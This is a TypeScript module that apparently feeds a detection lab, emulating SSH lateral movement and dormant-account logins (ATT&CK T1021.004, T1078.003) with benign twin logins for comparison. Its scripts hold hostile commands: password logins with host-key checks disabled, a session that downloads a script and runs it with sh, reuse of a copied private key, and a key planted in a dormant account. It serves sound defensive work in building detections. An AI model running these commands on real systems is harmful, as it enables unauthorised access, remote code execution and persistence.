// Lateral movement and access: ssh into the lab's sshd with a known password (sshpass) and with a stolen key,
// each followed by a tool download in the session (T1021.004); and dormant accounts logging in (T1078.003):
// olduser (last login 2024, in lastlog) with its password, and oldsvc (made in 2024, never used) with a key an
// intruder planted. The benign twins are alice's everyday key login; the sshd logs are the login data.
import type { Technique } from './types.js';
import { INTERNET } from '../technique-lab.js';

const { web: WEB } = INTERNET;
/** Host key checks off, as worms and lateral-movement scripts run ssh. */
const NO_HOSTKEYS = '-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null';
/** The lab attributes events to runs by time with 50 ms of slack: the last procedure before a benign twin ends a moment after its last step. */
const SETTLE = 'sleep 0.2';

export const access: Technique[] = [
  {
    id: 'T1021.004',
    name: 'Remote services: SSH',
    tactic: 'lateral-movement',
    procedures: [
      {
        name: 'sshpass password login, then curl to /tmp',
        script: `sshpass -p 'Lab-alice-2026' ssh ${NO_HOSTKEYS} alice@127.0.0.1 'curl -s -o /tmp/.s http://${WEB}/s && sh /tmp/.s; rm -f /tmp/.s'`,
        user: 'bob',
      },
      {
        name: 'stolen key from /tmp, then wget to /dev/shm',
        script: `install -m 600 /home/alice/.ssh/id_ed25519 /tmp/.k && ssh -i /tmp/.k -o BatchMode=yes ${NO_HOSTKEYS} alice@127.0.0.1 'wget -q -O /dev/shm/.w http://${WEB}/w; id'; rm -f /tmp/.k; ${SETTLE}`,
      },
    ],
    benign: { name: "alice's key login running uptime", script: 'ssh -o BatchMode=yes alice@127.0.0.1 uptime', user: 'alice' },
  },
  {
    id: 'T1078.003',
    name: 'Valid accounts: local accounts (dormant)',
    tactic: 'initial-access',
    procedures: [
      { name: 'olduser over ssh with its password', script: `sshpass -p 'Lab-old-2026' ssh ${NO_HOSTKEYS} olduser@127.0.0.1 id`, user: 'bob' },
      {
        name: 'oldsvc over ssh with a planted key',
        script: `install -d -m 700 -o oldsvc -g oldsvc /home/oldsvc/.ssh && install -m 600 -o oldsvc -g oldsvc /home/alice/.ssh/id_ed25519.pub /home/oldsvc/.ssh/authorized_keys && ssh -i /home/alice/.ssh/id_ed25519 -o BatchMode=yes ${NO_HOSTKEYS} oldsvc@127.0.0.1 id`,
      },
    ],
    benign: { name: "alice's key login", script: 'ssh -o BatchMode=yes alice@127.0.0.1 id', user: 'alice' },
  },
];
